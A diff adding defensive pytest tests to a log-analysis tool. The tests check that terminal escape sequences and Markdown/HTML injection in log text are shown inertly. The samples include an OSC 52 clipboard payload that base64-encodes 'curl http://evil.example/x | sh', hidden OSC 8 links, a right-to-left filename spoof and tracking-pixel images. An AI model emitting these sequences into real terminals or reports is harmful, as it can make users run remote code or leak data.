@@ -233,3 +233,74 @@ def test_every_verb_refuses_every_bad_argument_in_one_sentence(tmp_path, verb, c
     errors = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
     assert len(errors) == 1 and errors[0].endswith(errors[0].rstrip())
     assert result.stdout == ""
+
+
+# --- terminal escapes, Markdown spans and mentions in what log text reaches -------------
+
+#: What makes a terminal act: clear the screen, set the clipboard (OSC 52), retitle the
+#: window, hide a link (OSC 8), a C1 CSI, a right-to-left override, a line feed.
+TERMINAL_ATTACKS = [
+    "\x1b[2J\x1b[3J\x1b[H",
+    "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07",
+    "\x1b]0;all clear\x07",
+    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
+    "\x9b31m",
+    "\u202egol.exe",
+]
+ACTED_ON = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+@pytest.mark.parametrize("attack", TERMINAL_ATTACKS)
+def test_analyze_shows_what_log_text_would_make_a_terminal_do_as_escapes(tmp_path, attack):
+    """Change targets, error messages, host folders and file names carry the attack;
+    every view of ``analyze`` prints it as escapes, and a host name holding markup is
+    shown as written."""
+    node = tmp_path / f"ip-10-0-0-6[link=https:evil]{attack[:6].replace('/', '')}" / "var" / "log"
+    node.mkdir(parents=True)
+    (tmp_path / "changes.csv").write_text(
+        "time,type,target,description\n"
+        f"2023-03-14 17:55,upgrade,daemonset/kube-proxy{attack},roll out v1.24.{attack}10\n"
+    )
+    quiet = "".join(
+        f'I0314 {16 + m // 60}:{m % 60:02d}:07.000001       1 proxier.go:812] "Sync done" n={m}\n'
+        for m in range(0, 110, 3)
+    )
+    storm = kube_proxy([f'"Sync failed {attack}" n={i}' for i in range(400)])
+    (node / f"kube-proxy{attack[:4]}.log").write_text(quiet + storm)
+    for extra in ([], ["-v"], ["--by-host"], ["--json"]):
+        result = invoke(["analyze", str(tmp_path), "--year", "2023", *extra])
+        shown = result.stdout + result.stderr
+        assert result.exit_code == 0, shown
+        assert not ACTED_ON.search(shown), (extra, ACTED_ON.findall(shown))
+    by_host = invoke(["analyze", str(tmp_path), "--year", "2023", "--by-host"]).stdout
+    assert "[link=https:evil]" in by_host
+
+
+def test_markdown_report_keeps_log_text_out_of_spans_links_html_and_mentions(write, tmp_path):
+    from markdown_it import MarkdownIt
+
+    targets = [
+        "```![t](http://evil.example/track.png)`",
+        '``<img src="http://evil.example/px.gif"><details open><summary>ok</summary>`',
+        "`[Rollback: click](http://evil.example/confirm)`",
+        "x|![p](http://evil.example/pipe.png)",
+        "web cc @acme/sre-oncall @octocat fixes #1 see www.evil.example/a\x1b]0;t\x07",
+    ]
+    write(
+        "changes.csv",
+        "time,type,target,description\n"
+        + "".join(f'2023-03-14 17:5{k},upgrade,"{t}",roll {t}\n' for k, t in enumerate(targets)),
+    )
+    quiet = "".join(
+        f'I0314 {16 + m // 60}:{m % 60:02d}:07.000001       1 proxier.go:812] "Sync done" n={m}\n'
+        for m in range(0, 110, 3)
+    )
+    write("kube-proxy.log", quiet + kube_proxy(['"Sync failed" n=1'] * 400))
+    loaded = timeline.read(tmp_path)
+    text = render(findings(loaded, timeline.analyze(loaded)), format="md")
+    assert text.count("evil.example") >= len(targets)
+    html = MarkdownIt("commonmark").enable("table").render(text)
+    assert not re.search(r"<(?:img|a|details|summary)\b", html), html
+    assert not ACTED_ON.search(text)
+    prose = re.sub(r"(?<!\\)`[^`\n]*`", "", text)  # a code span shows its text literally
+    assert not re.search(r"(?<![\w\\])@[a-z]|(?<![\w\\])#1\b|https?://|www\.", prose)
